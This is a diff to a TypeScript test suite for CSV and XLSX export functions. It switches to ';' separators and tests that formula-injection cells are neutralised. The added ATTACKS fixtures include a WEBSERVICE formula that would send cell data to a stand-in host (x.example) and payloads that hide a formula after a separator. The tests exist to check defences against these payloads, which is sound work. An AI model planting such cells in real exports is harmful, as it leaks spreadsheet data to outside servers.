@@ -66,7 +66,7 @@ function parts(xlsx: Uint8Array): Map<string, string> {
   return new Map(readZip(xlsx).map((e) => [e.name, dec.decode(e.data)]));
 }
 
-// A minimal RFC 4180 parser to round-trip what toCsv writes.
+// A minimal RFC 4180 parser with `;` as the separator, to read back what toCsv writes.
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
@@ -81,7 +81,7 @@ function parseCsv(text: string): string[][] {
       field += ch; i++; continue;
     }
     if (ch === '"') { quoted = true; i++; continue; }
-    if (ch === ',') { row.push(field); field = ''; i++; continue; }
+    if (ch === ';') { row.push(field); field = ''; i++; continue; }
     if (ch === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
     field += ch; i++;
   }
@@ -90,27 +90,32 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
+const python = ['python3', '/usr/bin/python3'].find(
+  (exe) => spawnSync(exe, ['-c', 'import zipfile, xml.dom.minidom, csv'], { encoding: 'utf8' }).status === 0,
+);
+
 // ---------------------------------------------------------------------------
 
 describe('toCsv', () => {
-  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
-    const csv = toCsv(['Número', 'Tipo'], [['95200-2026-000001', 'Petición'], ['P-AB12-0001', 'Queja']]);
+  it('starts with a UTF-8 BOM, separates with ; and ends every record with CRLF', () => {
+    const csv = toCsv(['Número', 'Tipo'], [['95200-2026-000001', 'Petición'], ['P-AB12-0001', 'Queja, reclamo']]);
     expect(csv.startsWith(UTF8_BOM)).toBe(true);
-    expect(csv).toBe('\uFEFFNúmero,Tipo\r\n95200-2026-000001,Petición\r\nP-AB12-0001,Queja\r\n');
+    expect(csv).toBe('\uFEFFNúmero;Tipo\r\n95200-2026-000001;Petición\r\nP-AB12-0001;Queja, reclamo\r\n');
     expect(new TextEncoder().encode(csv).subarray(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
   });
 
-  it('quotes fields with comma, quote, CR or LF and doubles inner quotes', () => {
-    const csv = toCsv(['a'], [['x,y'], ['di "hola"'], ['línea 1\nlínea 2'], ['cr\rx'], ['plain']]);
-    expect(csv.split('\r\n').slice(1, 3)).toEqual(['"x,y"', '"di ""hola"""']);
+  it('quotes fields with ;, quote, CR or LF and doubles inner quotes', () => {
+    const csv = toCsv(['a'], [['x;y'], ['di "hola"'], ['línea 1\nlínea 2'], ['cr\rx'], ['plain'], ['coma, sin comillas']]);
+    expect(csv.split('\r\n').slice(1, 3)).toEqual(['"x;y"', '"di ""hola"""']);
     expect(csv).toContain('"línea 1\nlínea 2"\r\n');
     expect(csv).toContain('"cr\rx"\r\n');
     expect(csv).toContain('\r\nplain\r\n');
+    expect(csv).toContain('\r\ncoma, sin comillas\r\n');
   });
 
-  it('writes null and non-finite numbers as empty fields, booleans as TRUE/FALSE, numbers untouched', () => {
+  it('writes null and non-finite numbers as empty fields, booleans as TRUE/FALSE, numbers with a decimal comma', () => {
     const csv = toCsv(['n', 'b', 'z', 'x'], [[-5, true, null, Number.NaN], [12.5, false, 0, Infinity]]);
-    expect(csv.split('\r\n').slice(1)).toEqual(['-5,TRUE,,', '12.5,FALSE,0,', '']);
+    expect(csv.split('\r\n').slice(1)).toEqual(['-5;TRUE;;', '12,5;FALSE;0;', '']);
   });
 
   it('neutralises formula injection in text cells, headers included', () => {
@@ -129,8 +134,65 @@ describe('toCsv', () => {
     expect(lines[4]).toBe('a=b');
   });
 
+  // The attack review's cells: under a comma-only guard, Excel es-CO split them on ; and ran the rest.
+  const ATTACKS = [
+    'Ana;=WEBSERVICE(CHAR(104)&CHAR(116)&"tp://x.example/?"&E5)',
+    'Cra 2;-2+3;@SUM(A1:A9)',
+    '\t=1+1',
+    '\r=1+1',
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+  ];
+
+  it('keeps every attack cell one text cell that no spreadsheet reads as a formula', () => {
+    const csv = toCsv(['Campo', 'Valor', 'Número'], ATTACKS.map((a, i) => [`c${i}`, a, -2]));
+    const parsed = parseCsv(csv.slice(1));
+    expect(parsed[0]).toEqual(['Campo', 'Valor', 'Número']);
+    const guarded = (a: string) => (/^[=+\-@\t\r]/.test(a) ? `'${a}` : a).replace(/([,;])(?=[=+\-@\t\r])/g, "$1'");
+    expect(parsed.slice(1)).toEqual(ATTACKS.map((a, i) => [`c${i}`, guarded(a), '-2']));
+    expect(parsed[1]![1]).toBe('Ana;\'=WEBSERVICE(CHAR(104)&CHAR(116)&"tp://x.example/?"&E5)');
+    expect(parsed[2]![1]).toBe("Cra 2;'-2+3;'@SUM(A1:A9)");
+    // A reader that splits on ; or , while ignoring quotes (Excel with another locale's separator
+    // starts a cell after every one of them) still meets no cell that starts a formula.
+    for (const sep of [';', ',']) {
+      for (const record of csv.slice(1).split(/\r\n/)) {
+        for (const f of record.split(sep)) {
+          const cell = f.replace(/^"/, '');
+          if (!/^-\d+$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+        }
+      }
+    }
+    expect(toCsv(['a'], [['x,=1+1'], ['y,-2'], ['10,5'], ['uno; dos'], ['Ana,@SUM(A1)']]).split('\r\n').slice(1, 6)).toEqual([
+      "x,'=1+1",
+      "y,'-2",
+      '10,5',
+      '"uno; dos"',
+      "Ana,'@SUM(A1)",
+    ]);
+  });
+
+  it('reads back in Python\'s csv module with ; into the right columns', () => {
+    if (!python) throw new Error('python3 is needed (see .ci/run)');
+    const rows = [['c0', ATTACKS[0]!, 7.5], ['c1', ATTACKS[1]!, null], ['c2', 'línea 1\r\nlínea 2', true]];
+    const script = [
+      'import sys, csv, io, json',
+      'data = sys.stdin.buffer.read().decode("utf-8-sig")',
+      'print(json.dumps(list(csv.reader(io.StringIO(data, newline=""), delimiter=";")), ensure_ascii=False))',
+    ].join('\n');
+    const r = spawnSync(python, ['-c', script], { input: Buffer.from(toCsv(['a', 'b', 'c'], rows), 'utf8'), encoding: 'utf8' });
+    expect(r.status, r.stderr).toBe(0);
+    expect(JSON.parse(r.stdout)).toEqual([
+      ['a', 'b', 'c'],
+      ['c0', "Ana;'=WEBSERVICE(CHAR(104)&CHAR(116)&\"tp://x.example/?\"&E5)", '7,5'],
+      ['c1', "Cra 2;'-2+3;'@SUM(A1:A9)", ''],
+      ['c2', 'línea 1\r\nlínea 2', 'TRUE'],
+    ]);
+  });
+
   it('round-trips through an RFC 4180 parser', () => {
-    const rows = [['Ñandú, "ave"', 'a\r\nb', ''], ['ok', 'x"', 'ü']];
+    const rows = [['Ñandú; "ave"', 'a\r\nb', ''], ['ok', 'x"', 'ü, ä']];
     const parsed = parseCsv(toCsv(['h1', 'h2', 'h3'], rows).slice(1));
     expect(parsed).toEqual([['h1', 'h2', 'h3'], ...rows]);
   });
@@ -185,7 +247,11 @@ describe('toXlsx', () => {
         ['Sí', true],
       ],
     },
-    { name: 'Por tipo/canal: [v1]*?', headers: ['Tipo', 'N'], rows: [['Petición', 3], ['=1+1', -2]] },
+    {
+      name: 'Por tipo/canal: [v1]*?',
+      headers: ['Tipo', 'N'],
+      rows: [['Petición', 3], ['=1+1', -2], ['Ana;=WEBSERVICE("http://x")', 0], ['Cra 2;-2+3;@SUM(A1:A9)', 1], ['@SUM(A1:A9)', 2], ['\t=1', 3], ['\r=1', 4], ['+57', 5], ['\u0001=1', 6]],
+    },
     { name: 'Una hoja con un nombre larguísimo que no cabe', headers: ['x'], rows: [] },
     { name: 'resumen', headers: [], rows: [] },
   ];
@@ -242,9 +308,17 @@ describe('toXlsx', () => {
     expect(s1).toContain('state="frozen"');
     const s2 = p.get('xl/worksheets/sheet2.xml')!;
     expect(s2).toContain('<t xml:space="preserve">Petición</t>');
-    expect(s2).toContain('<t xml:space="preserve">=1+1</t>'); // a string, never a <f> formula
+    // Text: a string, never a <f> formula, and guarded like the CSV for whoever edits the cell.
+    expect(s2).toContain('<t xml:space="preserve">\'=1+1</t>');
     expect(s2).not.toContain('<f>');
-    expect(s2).toContain('<c r="B3"><v>-2</v></c>');
+    expect(s2).toContain('<c r="B3"><v>-2</v></c>'); // a number stays a number
+    expect(s2).toContain('<t xml:space="preserve">Ana;=WEBSERVICE(&quot;http://x&quot;)</t>');
+    expect(s2).toContain('<t xml:space="preserve">Cra 2;-2+3;@SUM(A1:A9)</t>');
+    expect(s2).toContain('<t xml:space="preserve">\'@SUM(A1:A9)</t>');
+    expect(s2).toContain('<t xml:space="preserve">\'\t=1</t>');
+    expect(s2).toContain('<t xml:space="preserve">\'&#13;=1</t>');
+    expect(s2).toContain('<t xml:space="preserve">\'+57</t>');
+    expect(s2).toContain('<t xml:space="preserve">\'=1</t>'); // a dropped control character does not hide the =
     const styles = p.get('xl/styles.xml')!;
     expect(styles).toMatch(/<cellXfs count="2">.*fontId="1".*<\/cellXfs>/);
     expect(styles).toContain('<font><b/>');
@@ -264,9 +338,6 @@ describe('toXlsx', () => {
 
   // Real readers: Python's zipfile (CRCs) and XML parser (well-formedness), and openpyxl (a
   // spreadsheet library). `.ci/run` installs python3-openpyxl, so these run rather than skip.
-  const python = ['python3', '/usr/bin/python3'].find(
-    (exe) => spawnSync(exe, ['-c', 'import zipfile, xml.dom.minidom'], { encoding: 'utf8' }).status === 0,
-  );
   const openpyxlPython = ['python3', '/usr/bin/python3'].find(
     (exe) => spawnSync(exe, ['-c', 'import openpyxl'], { encoding: 'utf8' }).status === 0,
   );
@@ -310,7 +381,20 @@ describe('toXlsx', () => {
     const got = JSON.parse(r.stdout) as Record<string, unknown>;
     expect(Object.keys(got)).toEqual(['Resumen', 'Por tipo canal v1', 'Una hoja con un nombre larguísi', 'resumen (2)', '_bold']);
     expect(got['Resumen']).toEqual([['Indicador', 'Valor'], ...sheets[0]!.rows]);
-    expect(got['Por tipo canal v1']).toEqual([['Tipo', 'N'], ['Petición', 3], ['=1+1', -2]]);
+    expect(got['Por tipo canal v1']).toEqual([
+      ['Tipo', 'N'],
+      ['Petición', 3],
+      ["'=1+1", -2],
+      ['Ana;=WEBSERVICE("http://x")', 0],
+      ['Cra 2;-2+3;@SUM(A1:A9)', 1],
+      ["'@SUM(A1:A9)", 2],
+      ["'\t=1", 3],
+      ["'\r=1", 4],
+      ["'+57", 5],
+      ["'=1", 6],
+    ]);
+    // openpyxl reads a cell as a formula when its value starts with "=": none of the text cells does.
+    for (const [cell] of (got['Por tipo canal v1'] as unknown[][]).slice(1)) expect(String(cell)).not.toMatch(/^[=+\-@\t\r]/);
     expect(got['_bold']).toBe(true);
   });
 });
